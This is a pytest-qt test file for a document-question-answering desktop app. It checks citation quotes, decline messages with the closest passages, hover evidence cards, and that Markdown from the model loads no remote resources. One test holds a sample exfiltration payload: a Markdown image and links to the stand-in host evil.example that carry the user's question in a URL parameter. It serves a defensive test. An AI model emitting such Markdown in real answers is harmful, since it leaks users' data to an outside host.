"""The answer as a person sees it: quotes under the sources, declines with the closest passages, Markdown
from the model that can neither load nor open anything, and the evidence of a marker on hover."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from PySide6.QtCore import QPoint, QUrl
from PySide6.QtGui import QTextCursor
from PySide6.QtTest import QTest
from pytestqt.qtbot import QtBot

from engine.api import Citation, Engine, Quote
from ui.main_window import MainWindow
from ui.messages import AnswerView

pytest_plugins = ["tests.test_ui_support"]  # the shared UI fixtures

QUOTE = Quote(1, "IDL stands for Interface Description Language.", 180, 228, 2)
CITATION = Citation(1, "/docs/bindings.pdf", 2, 100, 300, "… IDL stands for Interface Description Language. …",
                    quotes=(QUOTE,))


def test_quotes_are_shown_under_their_source_and_a_click_opens_the_citation(qtbot: QtBot) -> None:
    view = AnswerView()
    qtbot.addWidget(view)
    view.finish("IDL stands for Interface Description Language [1].", [CITATION])
    assert "“IDL stands for Interface Description Language.”" in view.sources.text()
    assert "bindings.pdf" in view.sources.text() and "page 2" in view.sources.text()
    with qtbot.waitSignal(view.citation_clicked, timeout=1000) as clicked:
        view.body.anchorClicked.emit(QUrl("cite:1"))
    assert clicked.args == [CITATION]


def test_a_decline_lists_what_was_searched_and_the_closest_passages(qtbot: QtBot) -> None:
    view = AnswerView()
    qtbot.addWidget(view)
    near = Citation(1, "/docs/boat-club.pdf", 2, 0, 90, "Summer mooring costs 720 euros.")
    view.finish("I could not find the answer to this in your documents.", [],
                notice="I could not find the answer to this in your documents. I searched for: winter, storage.",
                closest=[near])
    assert "I searched for: winter, storage." in view.body.toPlainText()
    assert "Closest passages" in view.sources.text() and "boat-club.pdf" in view.sources.text()
    with qtbot.waitSignal(view.citation_clicked, timeout=1000) as clicked:
        view.sources.linkActivated.emit("near:1")
    assert clicked.args == [near]


def test_markdown_from_the_model_loads_nothing_and_links_show_their_target(qtbot: QtBot) -> None:
    view = AnswerView()
    qtbot.addWidget(view)
    exfiltrating = ("The answer is 42 [1]. ![chart](https://evil.example/pixel.png?q=the+secret+question) "
                    "See [the manual](https://evil.example/login) or <https://evil.example/x>.")
    view.finish(exfiltrating, [CITATION])
    rendered = view.body.toHtml()
    assert "<img" not in rendered and 'href="https://' not in rendered
    shown = view.body.toPlainText()
    assert "(image: chart)" in shown and "the manual (https:// evil.example/login)" in shown
    assert view.body.loadResource(2, QUrl("https://evil.example/pixel.png")) is None  # 2: an image resource


def test_hovering_a_marker_shows_the_quoted_sentence_and_the_cited_page(
        qtbot: QtBot, library_folder: Path, make_engine: Callable[..., Engine],
        open_window: Callable[..., MainWindow]) -> None:
    engine = make_engine()
    list(engine.index([library_folder / "brannock.pdf"]))
    [hit] = engine.search("Who is the lighthouse keeper of Brannock Island?", k=1)
    sentence = "The lighthouse keeper of Brannock Island is Morwenna Tallis."
    start = hit.start + hit.text.index(sentence)
    cited = Citation(1, hit.path, hit.page, hit.start, hit.end, hit.text, document_id=hit.document_id,
                     quotes=(Quote(1, sentence, start, start + len(sentence), hit.page),))
    conversation = engine.conversations().create("Lighthouse")
    engine.conversations().add_message(conversation.id, "user", "Who keeps the light?")
    engine.conversations().add_message(conversation.id, "assistant", "Morwenna Tallis keeps it [1].", [cited])
    window = open_window(engine, preload=False)
    window.chat.load_conversation(conversation.id)
    [view] = window.chat.answer_views()
    card = window.chat.evidence

    # The pointer over the [1] of the answer's text, as a person moves it there.
    marker = view.body.document().find("[1]")
    assert not marker.isNull()
    inside = QTextCursor(view.body.document())
    inside.setPosition(marker.selectionStart() + 1)
    qtbot.waitUntil(lambda: view.body.anchorAt(view.body.cursorRect(inside).center()) == "cite:1", timeout=2_000)
    QTest.mouseMove(view.body.viewport(), view.body.cursorRect(inside).center())
    qtbot.waitUntil(card.isVisible, timeout=2_000)
    assert card.citation == cited
    assert sentence in card.quotes.text() and "brannock.pdf, page 2" in card.source.text()
    qtbot.waitUntil(lambda: not card.thumbnail.pixmap().isNull(), timeout=20_000)  # rendered off the GUI thread
    assert card.thumbnail.pixmap().width() > 100

    # Away from the marker the card goes; back over it, the page comes from the cache at once.
    QTest.mouseMove(view.body.viewport(), QPoint(2, view.body.viewport().height() - 2))
    qtbot.waitUntil(lambda: not card.isVisible(), timeout=2_000)
    view.evidence_requested.emit(cited)
    assert not card.thumbnail.pixmap().isNull()
